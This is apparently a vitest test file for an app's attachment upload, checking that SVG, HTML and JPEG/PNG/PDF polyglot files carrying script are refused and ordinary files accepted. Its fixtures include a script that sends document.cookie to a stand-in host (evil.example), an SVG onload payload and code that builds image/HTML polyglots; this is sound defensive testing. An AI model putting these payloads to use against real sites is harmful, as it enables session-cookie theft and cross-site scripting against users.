import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import type { Attachment, ChecklistEntry } from '../../../shared/domain/findings';
import en from '../../../shared/i18n/locales/en/security.json';
import sv from '../../../shared/i18n/locales/sv/security.json';
import { caller, rejection, testBackend } from '../../helpers/tmp';
import { conductFixture } from './fixture';
import { pdf, png } from './files';

const b64 = (b: Buffer) => b.toString('base64');
const SCRIPT = '<html><body><script>fetch("http://evil.example/?"+document.cookie)</script></body></html>';

/** A JPEG with a comment segment (FF FE) right after the start marker, the classic JPEG/HTML polyglot. */
async function jpegWithComment(text: string): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#4a7' } }).jpeg().toBuffer();
  const body = Buffer.from(text, 'latin1');
  const segment = Buffer.concat([Buffer.from([0xff, 0xfe, (body.length + 2) >> 8, (body.length + 2) & 0xff]), body]);
  return Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)]);
}

const SVG = '<?xml version="1.0" encoding="UTF-8"?>\n<!-- ritat i Inkscape -->\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>\n';

describe('attachments that carry web content are refused', () => {
  const backend = testBackend();
  const call = caller(backend);
  const blobCount = () => backend.database.prepare('SELECT count(*) FROM blobs').pluck().get() as number;

  it('refuses SVG, HTML and image/PDF polyglots with a translated reason, storing nothing', async () => {
    const { items } = await conductFixture(backend);
    const owner = { ownerType: 'checklist_item', ownerId: (items[0] as ChecklistEntry).id };
    const before = blobCount();
    const realPdf = await pdf();
    const cases: [string, Buffer, string][] = [
      ['ritning.svg', Buffer.from(SVG), 'svg'],
      // the name does not matter: an SVG called .txt or .png is still an SVG
      ['ritning.txt', Buffer.from(`\uFEFF${SVG}`), 'svg'],
      ['foto.png', Buffer.from(SVG), 'svg'],
      ['sida.html', Buffer.from(`<!DOCTYPE html>\n${SCRIPT}`), 'html'],
      ['anteckningar.txt', Buffer.from(`  <html lang="sv"><head><title>x</title></head>${SCRIPT}`), 'html'],
      ['bild.png', Buffer.concat([png(), Buffer.from(SCRIPT)]), 'polyglot'],
      ['bild.jpg', await jpegWithComment(SCRIPT), 'polyglot'],
      ['intyg.pdf', Buffer.concat([Buffer.from('%PDF-1.4\n%'), Buffer.from(SCRIPT), Buffer.from('\n'), realPdf.subarray(9)]), 'polyglot'],
      ['intyg2.pdf', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from('<SVG xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></SVG>\n'), realPdf.subarray(9)]), 'polyglot'],
    ];
    for (const [fileName, data, type] of cases) {
      const err = await rejection(call('attachments.add', { ...owner, fileName, contentBase64: b64(data) }));
      expect({ code: err.code, params: err.params }, fileName).toEqual({ code: 'file_type_refused', params: { reason: 'active_content', type } });
    }
    expect(blobCount()).toBe(before);
    expect(await call<Attachment[]>('attachments.list', owner)).toEqual([]);
  });

  it('still accepts ordinary photos, PDFs and notes that merely mention markup', async () => {
    const { items } = await conductFixture(backend);
    const owner = { ownerType: 'checklist_item', ownerId: (items[0] as ChecklistEntry).id };
    const ok: [string, Buffer][] = [
      ['foto.jpg', await jpegWithComment('Kamera: Sjöviks kommun, bild 12')],
      ['foto.png', png()],
      ['lista.pdf', await pdf()],
      ['it-revision.txt', Buffer.from('Iakttagelse: formuläret tar emot <script>-taggar utan att filtrera dem.\n')],
    ];
    for (const [fileName, data] of ok) {
      expect(await call<Attachment>('attachments.add', { ...owner, fileName, contentBase64: b64(data) }), fileName).toMatchObject({ fileName });
    }
  });

  it('says why in Swedish and English, naming the file', () => {
    expect(en.upload.active_content).toContain('{{name}}');
    expect(sv.upload.active_content).toContain('{{name}}');
    expect(sv.upload.active_content).not.toBe(en.upload.active_content);
  });
});
